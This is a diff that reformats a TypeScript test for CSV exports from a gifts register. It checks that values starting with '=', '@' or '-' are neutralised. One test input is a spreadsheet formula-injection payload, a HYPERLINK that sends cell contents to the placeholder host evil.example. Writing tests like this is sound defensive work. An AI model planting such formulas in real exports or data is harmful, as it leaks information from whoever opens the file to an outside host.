@@ -14,7 +14,13 @@ describe('CSV exports', () => {
   let t: TestApp;
   before(async () => {
     t = await startTestApp();
-    await t.services.auth.createAccount(null, { email: 'rita.registers@harbour.example', displayName: 'Rita Registers', password: DEMO_PASSWORD, roles: ['registers_officer'], staffId: null });
+    await t.services.auth.createAccount(null, {
+      email: 'rita.registers@harbour.example',
+      displayName: 'Rita Registers',
+      password: DEMO_PASSWORD,
+      roles: ['registers_officer'],
+      staffId: null,
+    });
   });
   after(() => t.close());
 
@@ -22,7 +28,16 @@ describe('CSV exports', () => {
     const helen = await t.signIn(demo.serviceManager);
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
     const res = await helen.submit('/registers/gifts/new', '/registers/gifts', {
-      kind: 'gift', 'offeredOn-day': '1', 'offeredOn-month': '4', 'offeredOn-year': '2026', description: '@SUM(1+1)', offeredBy: formula, giverType: 'organisation', value: '120', response: 'refused', reason: '-1+1',
+      kind: 'gift',
+      'offeredOn-day': '1',
+      'offeredOn-month': '4',
+      'offeredOn-year': '2026',
+      description: '@SUM(1+1)',
+      offeredBy: formula,
+      giverType: 'organisation',
+      value: '120',
+      response: 'refused',
+      reason: '-1+1',
     });
     assert.equal(res.statusCode, 303);
     const csv = await (await t.signIn('rita.registers@harbour.example')).get('/registers/reports/gifts.csv');
@@ -31,7 +46,10 @@ describe('CSV exports', () => {
     const row = rows.find((r) => r.includes(`'${formula}`));
     assert.ok(row, `the giver is neutralised: ${csv.body}`);
     assert.ok(row.includes("'@SUM(1+1)") && row.includes("'-1+1"));
-    assert.ok(!rows.flat().some((cell) => /^[=+@]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell)), 'no cell starts a formula');
+    assert.ok(
+      !rows.flat().some((cell) => /^[=+@]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell)),
+      'no cell starts a formula',
+    );
     assert.ok(row.includes('£120'), `the value is as before: ${row.join(' | ')}`);
   });
 });
